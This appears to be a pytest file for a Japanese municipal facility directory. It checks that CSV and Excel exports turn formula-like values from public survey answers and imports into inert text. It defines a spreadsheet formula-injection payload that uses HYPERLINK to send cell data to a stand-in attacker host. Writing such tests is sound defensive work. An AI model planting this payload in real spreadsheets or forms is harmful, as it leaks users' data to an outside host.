"""Exports carry no live formulas, whatever a survey answer or an import put in a field (issue 7, item 6)."""

import csv
import datetime as dt
import io

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from renkei.core.models import Role
from renkei.directory.exports import excel, opendata
from renkei.directory.exports.scope import ExportScope
from renkei.directory.models import SurveyResponse
from renkei.directory.services import surveys
from tests.factories import FacilityFactory

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("https://evil.example/?d="&A1,"詳細")'


@pytest.fixture(autouse=True)
def _fresh_throttle_counters():
    cache.clear()
    yield
    cache.clear()


def download(client, municipality, fmt):
    url = reverse("directory:export_download", args=[municipality.code]) + f"?format={fmt}"
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_a_survey_answer_with_a_formula_reaches_the_exports_only_as_text(make_membership, municipal_office,
                                                                         login_as, municipality):
    clinic = FacilityFactory(municipality=municipality, kind="clinic", name="やまだ内科クリニック", hours_note="")
    coordinator = make_membership(Role.COORDINATOR)
    _, [item] = surveys.survey_round_create(
        municipality=municipality, title="連携情報の確認", message="", facilities=[clinic], membership=coordinator,
        due_on=timezone.localdate() + dt.timedelta(days=30))
    # The public answer form, without an account.
    posted = Client().post(item.link, {"respondent_name": "@山田", "respondent_role": "院長",
                                       "hours_note": ATTACK, "a_service_area": ATTACK})
    assert posted.status_code == 302
    surveys.survey_response_approve(response=SurveyResponse.objects.get(), membership=coordinator,
                                    corrections=["hours_note"])
    staff = login_as(make_membership(Role.MUNICIPAL_STAFF, organization=municipal_office))

    [row] = csv_rows(download(staff, municipality, "csv_medical"))
    assert row["診療日時特記事項"] == "'" + ATTACK

    workbook = load_workbook(io.BytesIO(download(staff, municipality, "xlsx")))
    details = workbook["連携情報"]
    header = [c.value for c in details[1]]
    cell = details[2][header.index("訪問・対応地域")]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (ATTACK, "s", True)
    # No cell of any sheet is a formula.
    assert not [c for sheet in workbook for r in sheet.iter_rows() for c in r if c.data_type == "f"]


def test_imported_names_starting_like_formulas_are_text_in_every_export(municipality):
    FacilityFactory(municipality=municipality, kind="clinic", name="=1+2", phone="+81-773-22-1111",
                    corporation_name="@法人", website="", latitude=35.3, longitude=135.1, beds_total=None)
    scope = ExportScope(municipality)

    [row] = csv_rows(b"".join(opendata.opendata_csv(scope, opendata.MEDICAL)))
    assert (row["名称"], row["電話番号"], row["法人の名称"]) == ("'=1+2", "'+81-773-22-1111", "'@法人")
    assert row["緯度"] == "35.300000"

    content, _count = excel.workbook_bytes(scope, None)
    sheet = load_workbook(io.BytesIO(content))["施設一覧"]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert (cells["名称"].value, cells["名称"].data_type) == ("=1+2", "s")
    assert cells["緯度"].data_type == "n" and cells["No."].value == 1

